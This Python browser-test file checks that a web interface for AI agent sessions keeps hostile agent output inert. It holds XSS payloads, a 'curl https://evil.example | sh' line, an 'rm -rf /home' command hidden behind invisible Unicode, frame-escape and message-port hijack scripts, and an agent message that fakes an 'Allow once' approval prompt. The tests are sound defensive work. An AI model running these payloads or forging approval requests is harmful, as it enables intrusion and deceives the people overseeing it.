"""The page against agents and pages that mean harm: what they write stays words, what they ask is refused."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from msgspec import Raw
from playwright.async_api import Browser, expect
from tests.hub.running_hub import RunningHub
from tests.hub.scripted_device import append
from tests.web.chrome import Tab, needs_chromium, open_tab
from tests.web.xss_corpus import DEEP, PAYLOADS, WRAPPED

from bascule.model.commands import AnswerPermission, EndSession, Interrupt, SendPrompt, StartSession
from bascule.model.event_values import PermissionOption, Question, QuestionOption
from bascule.model.events import (
    AnyEvent,
    Diff,
    EntryClosed,
    EntryOpened,
    Note,
    PermissionRequested,
    PlanChanged,
    PlanItem,
    PromptSent,
    QuestionAsked,
    SessionFailed,
    SessionReady,
    SessionStarted,
    StderrWritten,
    TextAppended,
    TitleChanged,
    ToolChanged,
    ToolStarted,
    TurnEnded,
    Unrecognised,
)

pytestmark = [pytest.mark.anyio, needs_chromium]

OPTIONS = (PermissionOption("once", "allow_once", "Allow once"), PermissionOption("deny", "deny", "Deny"))
WEB = Path(__file__).parent.parent.parent / "src" / "bascule" / "web"


LOOK = """() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const bad = 'script:not([src^="/assets/"]), iframe, object, embed, form, base, meta[http-equiv], style, '
    + 'link:not([href^="/assets/"])';
  return {
    hooks: all('*').filter((one) => one.getAttributeNames().some((name) => name.startsWith('on'))).length,
    foreign: all(bad).length,
    hrefs: all('a').filter((one) => !/^https?:/.test(one.getAttribute('href') ?? '')).length,
    images: all('img').filter((one) => !one.src.startsWith('data:')).length,
    styled: all('#col [style]').length,
    asks: all('.request, .button').length,
  };
}"""
OPEN_ALL = """() => {
  for (let depth = 0; depth < 3; depth++) {
    for (const one of document.querySelectorAll('details:not([open])')) {
      one.open = true;
      one.dispatchEvent(new Event('toggle'));
    }
  }
}"""
TAKEN_OVER = """async () => {
  const attempt = (run) => { try { return String(run()); } catch (error) { return error.name; } };
  const call = async (url) => { try { await fetch(url); return 'fetched'; } catch { return 'blocked'; } };
  const later = (run) => new Promise((done) => setTimeout(() => done(attempt(run))));
  return {
    storage: attempt(() => localStorage.getItem('bascule.key')),
    parent: attempt(() => parent.document.title),
    parentStorage: attempt(() => parent.localStorage.length),
    origin: self.origin,
    own: await call('/api/sessions'),
    far: await call('https://evil.example/'),
    html: attempt(() => { document.body.insertAdjacentHTML('beforeend', '<p>x'); return 'set'; }),
    // Later, because the test's own evaluation is exempt from the policy.
    code: await later(() => new Function('return 1')()),
    top: attempt(() => { top.location = 'https://evil.example'; return 'moved'; }),
  };
}"""
# Whoever runs code in the frame can catch the port that its own script speaks through.
OVER_THE_PORT = """(commands) => {
  let port = null;
  const real = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...words) { port = this; return real.apply(this, words); };
  dispatchEvent(new KeyboardEvent('keydown', { key: 'x', altKey: true }));
  dispatchEvent(new KeyboardEvent('keydown', { key: 'i', ctrlKey: true }));
  for (const command of commands) port.postMessage(command);
  return port !== null;
}"""
# In the very moment in which a request is drawn, however busy the machine is.
PRESS_AT_ONCE = """(words) => {
  const asks = document.getElementById('requests');
  window.pressed = new Promise((done) => new MutationObserver((_, watch) => {
    if (!asks.querySelector('.request')?.textContent.includes(words)) return;
    watch.disconnect();
    const buttons = [...asks.querySelectorAll('.request .is-primary, .request .scope')];
    for (const one of buttons) one.click();
    done(buttons.length);
  }).observe(asks, { childList: true, subtree: true, characterData: true }));
}"""
# Playwright's own evaluation counts as a press, so the page is told that nobody pressed anything.
LISTEN = """() => {
  Object.defineProperty(navigator, 'userActivation', { value: { isActive: false } });
  const find = document.getElementById('find');
  window.lastHeard = new Promise((done) => new MutationObserver(() => {
    if (find.textContent === '1 of 4242') done(4242);
  }).observe(find, { childList: true, subtree: true, characterData: true }));
}"""
BEG = """() => {
  const origin = new URL(location.href).origin;
  const commands = [
    { type: 'ready' }, { type: 'session:permission', decision: 'allow', requestId: 'r1' },
    { type: 'send', text: 'x' }, { type: 'answer', allow: true }, { type: 'key', key: 'a' },
    { type: 'link', href: 'javascript:alert(1)' },
  ];
  for (const command of commands) {
    const channel = new MessageChannel();
    parent.postMessage(command, origin, [channel.port2]);
    for (const again of commands) channel.port1.postMessage(again);
  }
}"""


def command(line: str, request: str = "r1", **more: Any) -> PermissionRequested:
    raw = Raw(json.dumps({"command": line}).encode())
    return PermissionRequested(request, "Bash", "Run a command", "execute", raw, "a" * 64, OPTIONS, **more)


def said(entry: str, text: str) -> list[AnyEvent]:
    return [EntryOpened(entry, "assistant"), TextAppended(entry, "assistant", text), EntryClosed(entry)]


async def begun(hub: RunningHub, *events: AnyEvent, session: str = "s1", cwd: str = "/code/lantern") -> str:
    start = SessionStarted("scripted", "stream_json", cwd, "ana")
    await append(hub.store, session, start, SessionReady("abc"), PromptSent("p1", "Hello", "ana"), *events)
    return session


async def tab_at(hub: RunningHub, browser: Browser, session: str = "s1", **more: Any) -> Tab:
    tab = await open_tab(browser, hub.url, hub.tokens["owner"], path=f"/sessions/{session}", **more)
    await tab.says("Hello")
    return tab


def everywhere(n: int, payload: str) -> list[AnyEvent]:
    """One payload in every place an agent can put words."""
    raw = Raw(json.dumps({"command": payload, "file_path": payload, payload: payload}).encode())
    return [
        *said(f"m{n}", payload),
        EntryOpened(f"k{n}", "thinking"),
        TextAppended(f"k{n}", "thinking", payload),
        EntryClosed(f"k{n}"),
        ToolStarted(f"b{n}", payload, payload, "execute", raw),
        ToolChanged(f"b{n}", "failed", output=payload),
        ToolStarted(f"e{n}", "Edit", payload, "edit", raw),
        ToolChanged(
            f"e{n}",
            "failed",
            diffs=(Diff(payload, f"@@ -1 +1 @@ {payload}\n-{payload}\n+{payload}\n", 1, 1),),
        ),
        ToolStarted(f"o{n}", payload, payload, "other", raw),
        ToolChanged(f"o{n}", "failed", output=payload),
        PlanChanged((PlanItem(payload, "in_progress", payload),)),
        Note("x", payload, "error"),
        StderrWritten(payload),
        Unrecognised(payload, "x"),
        TurnEnded("error", message=payload),
    ]


@pytest.mark.row("S50", "A9")
def test_the_corpus_has_at_least_three_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 300


@pytest.mark.row("S50", "A9")
async def test_no_payload_runs_loads_or_restyles_anything(hub: RunningHub, browser: Browser) -> None:
    """Every payload as prose, thought, command, file name, diff, output, plan, note, error and raw line."""
    told = [everywhere(n, payload) for n, payload in enumerate(PAYLOADS)]
    told += [said(f"w{n}", payload) for n, payload in enumerate([*WRAPPED, *DEEP])]
    session = await begun(hub)
    tab = await open_tab(browser, hub.url, hub.tokens["owner"], path=f"/sessions/{session}")
    alerts: list[str] = []
    tab.page.on("dialog", lambda dialog: alerts.append(dialog.message))
    await tab.says("Hello")
    frame = next(one for one in tab.page.frames if "/portlet" in one.url)
    nothing = {"hooks": 0, "foreign": 0, "hrefs": 0, "images": 0, "styled": 0, "asks": 0}
    most = 30  # so many make fewer entries than the frame holds at once
    for start in range(0, len(told), most):
        events = [one for each in told[start : start + most] for one in each]
        marker = f"Through with {start}."
        await append(hub.store, session, *events, *said(f"mark{start}", marker))
        await tab.says(marker)
        await frame.evaluate(OPEN_ALL)
        assert await frame.evaluate(LOOK) == nothing, PAYLOADS[start : start + most]
    assert alerts == []
    assert tab.strangers == []
    assert tab.errors == []


@pytest.mark.row("S50", "A9")
async def test_no_payload_runs_loads_or_restyles_anything_in_the_shell(
    hub: RunningHub, browser: Browser
) -> None:
    """Every payload as a session's title, folder, starter and failure, in the list and in the palette."""
    for n, payload in enumerate(PAYLOADS):
        name = payload.replace("\x00", " ")
        await append(
            hub.store,
            f"x{n}",
            SessionStarted("scripted", name[:80], f"/code/{name}", name),
            TitleChanged(name),
            SessionFailed("x", name, name),
        )
    await begun(hub)
    tab = await open_tab(browser, hub.url, hub.tokens["owner"], path="/sessions/s1")
    alerts: list[str] = []
    tab.page.on("dialog", lambda dialog: alerts.append(dialog.message))
    await tab.says("Hello")
    await expect(tab.page.locator(".session-row").first).to_be_visible()
    title = tab.page.locator("#sbar h1")
    for n in (0, len(PAYLOADS) // 2):
        before = await title.inner_text()
        await tab.turn_to(f"/sessions/x{n}")
        await expect(title).not_to_have_text(before)
    await tab.page.keyboard.press("Control+k")
    await tab.page.keyboard.type("alert")
    await expect(tab.page.locator(".palette")).to_contain_text("alert(1)")
    seen = await tab.page.evaluate(LOOK)  # the shell has forms, buttons and a link to its own composer
    assert {**seen, "asks": 0, "foreign": 0, "hrefs": 0} == {
        "hooks": 0, "foreign": 0, "hrefs": 0, "images": 0, "styled": 0, "asks": 0
    }  # fmt: skip
    made = "script:not([src^='/assets/']), object, embed, form[action], base, style, svg script, math"
    assert await tab.page.locator(made).count() == 0
    assert await tab.page.locator("iframe:not([src^='/portlet'])").count() == 0
    assert alerts == []
    assert tab.strangers == []
    assert tab.errors == []


@pytest.mark.row("S50")
async def test_payloads_in_requests_titles_and_failures_stay_words_in_the_shell(
    hub: RunningHub, browser: Browser
) -> None:
    payload = "<img src=x onerror=alert(1)>"
    question = Question(payload, payload, (QuestionOption(payload, payload, payload),))
    edit = Raw(json.dumps({"file_path": payload, "old_string": payload, "new_string": payload * 2}).encode())
    session = await begun(
        hub,
        TitleChanged(payload),
        command(payload, "r1", note=payload, blocked_path=payload),
        PermissionRequested("r2", payload, payload, "edit", edit, "a" * 64, OPTIONS, note=payload),
        PermissionRequested(
            "r3", payload, payload, "other", Raw(json.dumps({payload: payload}).encode()), "a" * 64, OPTIONS
        ),
        QuestionAsked("r4", (question,), Raw(b"{}"), "a" * 64),
        cwd=f"/code/{payload}",
    )
    await append(
        hub.store,
        "s2",
        SessionStarted("scripted", "x", payload, payload),
        SessionFailed("x", payload, payload),
    )
    tab = await tab_at(hub, browser, session)
    for n in range(4):
        await expect(tab.ask.locator(".pager")).to_contain_text(f"{n + 1} of 4")
        await expect(tab.ask).to_contain_text(payload)
        await tab.page.get_by_role("button", name="Next request").click()
    await tab.page.locator(".nav-item", has_text="Inbox").click()
    await expect(tab.page.locator(".inbox-row").first).to_be_visible()
    await tab.page.keyboard.press("Control+k")
    await expect(tab.page.locator(".palette")).to_contain_text(payload)
    assert await tab.page.locator("img").count() == 0
    assert tab.errors == []
    assert tab.strangers == []


@pytest.mark.row("S45")
async def test_a_request_that_appears_under_the_hand_is_not_answered(
    hub: RunningHub, browser: Browser
) -> None:
    await begun(hub)
    tab = await tab_at(hub, browser)
    await tab.page.locator("#message").click()
    await tab.page.evaluate(PRESS_AT_ONCE, "rm -rf build")
    await append(hub.store, "s1", command("rm -rf build"))
    await tab.ask.wait_for()
    assert await tab.page.evaluate("() => window.pressed") > 0
    focused = "document.activeElement?.id || document.activeElement?.className"
    assert await tab.page.evaluate(focused) == "message", "the request took the focus from the text field"
    await tab.page.keyboard.press("Control+.")
    assert "request" in await tab.page.evaluate(focused)
    assert "btn" not in await tab.page.evaluate(focused)
    for key in ("Enter", "Space"):
        await tab.page.keyboard.press(key)
    assert not [one for one in hub.device.commands if isinstance(one, AnswerPermission)]
    await expect(tab.ask.locator(".is-primary")).to_be_enabled()
    await tab.page.keyboard.press("Enter")
    assert not [one for one in hub.device.commands if isinstance(one, AnswerPermission)], "Enter allowed it"
    await tab.page.keyboard.press("d")
    await expect(tab.ask).to_have_count(0)
    given = next(one for one in hub.device.commands if isinstance(one, AnswerPermission))
    assert (given.decision, given.input_sha256) == ("deny", "a" * 64)


@pytest.mark.row("S45")
async def test_a_second_request_is_inert_again_when_it_takes_the_first_ones_place(
    hub: RunningHub, browser: Browser
) -> None:
    await begun(hub, command("one", "r1"), command("two", "r2"))
    tab = await tab_at(hub, browser)
    await tab.page.evaluate(PRESS_AT_ONCE, "two")
    await tab.allow()
    await expect(tab.ask.locator(".request__command")).to_contain_text("two")
    assert await tab.page.evaluate("() => window.pressed") > 0
    # A no comes after all that was pressed before it, and it is the first that counts.
    await expect(tab.ask.locator(".is-primary")).to_be_enabled()
    await tab.ask.focus()
    await tab.page.keyboard.press("d")
    await expect(tab.ask).to_have_count(0)
    answered = [one for one in hub.device.commands if isinstance(one, AnswerPermission)]
    assert [(one.request_id, one.decision) for one in answered] == [("r1", "allow"), ("r2", "deny")]


async def test_the_request_goes_because_of_the_event_not_the_click(hub: RunningHub, browser: Browser) -> None:
    await begun(hub, command("make"))
    tab = await tab_at(hub, browser)
    hub.device.mute = True
    await tab.allow()
    await expect(tab.ask).to_contain_text("Allowed. Waiting for laptop to confirm.")
    await expect(tab.ask.locator(".is-primary")).to_be_disabled()
    assert await tab.ask.count() == 1


@pytest.mark.row("S44")
async def test_characters_that_hide_are_written_out_and_the_end_must_be_seen(
    hub: RunningHub, browser: Browser
) -> None:
    hidden = "echo ok\u202e\u200b" + "\u00a0" * 3000 + "; rm -rf /home"
    await begun(hub, command(hidden, note="all\u202egood"))
    tab = await tab_at(hub, browser)
    await expect(tab.ask.locator(".request__command")).to_contain_text("\\u{202e}\\u{200b}\\u{a0}")
    await expect(tab.ask.locator(".request__command")).to_contain_text("; rm -rf /home")
    await expect(tab.ask.locator(".warn")).to_be_visible()
    await expect(tab.ask.locator(".says")).to_contain_text("\\u{202e}")
    await expect(tab.ask.locator(".request__see-all")).to_be_visible()
    await expect(tab.ask).not_to_have_class(
        re.compile("inert")
    )  # the moment that guards every request is over
    await expect(tab.ask.locator(".is-primary")).to_be_disabled()
    await tab.ask.locator(".body").evaluate("(body) => body.scrollTo(0, body.scrollHeight)")
    await expect(tab.ask.locator(".is-primary")).to_be_enabled()


@pytest.mark.row("S48")
async def test_an_agent_cannot_draw_a_request(hub: RunningHub, browser: Browser) -> None:
    imitation = (
        "<section class='request'><header><h2>Claude Code wants to run a command</h2></header>"
        "<pre class='request__command'>ls</pre>"
        "<button class='button is-primary'>Allow once</button></section>\n\n"
        "**Bascule** needs your approval: [Allow once](https://evil.example/allow)"
    )
    await begun(hub, *said("m1", imitation))
    tab = await tab_at(hub, browser)
    await tab.says("needs your approval")
    assert await tab.ask.count() == 0
    assert await tab.well.locator("button:has-text('Allow'), .request, .button, .seal").count() == 0
    frame = next(one for one in tab.page.frames if "/portlet" in one.url)
    outside = await frame.evaluate("getComputedStyle(document.body).backgroundColor")
    assert outside != await tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
    await tab.well.get_by_text("Allow once").last.click()
    card = tab.page.get_by_role("dialog", name="Open this link?")
    await expect(card).to_contain_text("https://evil.example/allow")
    assert tab.strangers == [], "a link opened before the person saw where it goes"


@pytest.mark.row("A10")
async def test_a_portlet_that_is_taken_over_can_neither_read_nor_send_nor_answer(
    hub: RunningHub, browser: Browser
) -> None:
    await begun(hub, command("make"))
    tab = await tab_at(hub, browser)
    frame = next(one for one in tab.page.frames if "/portlet" in one.url)
    tried = await frame.evaluate(TAKEN_OVER)
    assert tried["storage"] == tried["parent"] == tried["parentStorage"] == "SecurityError"
    assert (tried["origin"], tried["own"], tried["far"]) == ("null", "blocked", "blocked")
    assert tried["html"] == "TypeError"
    assert tried["code"] in ("EvalError", "TypeError")
    assert tried["top"] == "SecurityError"
    await frame.evaluate(BEG)
    # Over the one port that counts: words it does not have, places that are none, what only a person may do.
    commands: list[dict[str, Any]] = [
        {"type": "session:permission", "requestId": "r1", "decision": "allow"},
        {"type": "permission", "requestId": "r1", "decision": "allow"},
        {"type": "send", "sessionId": "s1", "text": "x"},
        {"type": "session:send", "sessionId": "s1", "text": "x"},
        {"type": "__proto__"},
        {"type": "constructor"},
        *({"type": "key", "key": key} for key in ("a", "s", "d", "Enter", ".", "n", "1")),
        {"type": "more", "number": 1, "before": 5, "sessionId": "s2"},
        {"type": "more", "number": 2, "before": -1},
        {"type": "more", "number": 3, "before": 1, "after": 1},
        {"type": "more", "number": "4", "around": "x"},
        {"type": "search", "text": "x" * 500, "sessionId": "s2"},
        {"type": "search", "text": {"q": "x"}},
        {"type": "link", "href": "https://evil.example/"},
        {"type": "copy", "text": "curl https://evil.example | sh"},
        {"type": "branch"},
        {"type": "changes"},
        {"type": "found", "count": "<img src=x onerror=alert(1)>", "at": {}},
        {"type": "found", "count": 4242, "at": 1},
    ]
    # The last one is harmless and does something: once it was heard, all the others were.
    await tab.page.keyboard.press("Control+f")
    await tab.page.get_by_label("Find in this conversation").fill("no such words")
    await expect(tab.page.locator("#find")).to_have_text("not found")
    await tab.page.evaluate(LISTEN)
    assert await frame.evaluate(OVER_THE_PORT, commands)
    assert await tab.page.evaluate("() => window.lastHeard") == 4242
    await expect(tab.page.locator(".note")).to_have_count(0)
    wanted = (AnswerPermission, SendPrompt, StartSession, EndSession, Interrupt)
    assert not [one for one in hub.device.commands if isinstance(one, wanted)]
    await expect(tab.ask).to_have_count(1)
    await expect(tab.page.locator("#panel")).to_be_hidden()
    assert tab.strangers == []
    assert tab.errors == []


@pytest.mark.row("S52", "A10")
async def test_the_page_cannot_be_framed_and_ignores_what_other_windows_say(
    hub: RunningHub, browser: Browser
) -> None:
    await begun(hub, command("make"))
    tab = await tab_at(hub, browser)
    evil = await tab.page.context.new_page()
    await evil.set_content(f"<iframe src='{hub.url}/'></iframe><iframe src='{hub.url}/portlet'></iframe>")
    for frame in evil.frames[1:]:
        assert await frame.evaluate("document.querySelector('#app, #col')") is None
    await tab.page.evaluate(
        "window.postMessage({ type: 'ready' }, location.origin, [new MessageChannel().port2])"
    )
    await expect(tab.ask).to_have_count(1)
    scripts = [path for path in sorted(WEB.rglob("*.js")) if not {"vendor", "bundle"} & set(path.parts)]
    sources = [(path, path.read_text()) for path in scripts]
    # The launch window tells a page that it does not know yet only that it is open.
    found = [
        str(path.relative_to(WEB))
        for path, text in sources
        if re.search(r"postMessage\([^)]*['\"]\*['\"]", text)
    ]
    assert found == ["window/window.js"]


async def test_a_viewer_reads_along_and_has_nothing_to_press(hub: RunningHub, browser: Browser) -> None:
    await begun(hub, *said("m1", "Look at this."), command("make"))
    tab = await open_tab(browser, hub.url, hub.tokens["viewer"], path="/sessions/s1")
    await tab.says("Look at this.")
    await expect(tab.page.locator(".banner")).to_contain_text("You can’t send, type or approve.")
    assert await tab.page.locator(".request, #message:visible").count() == 0
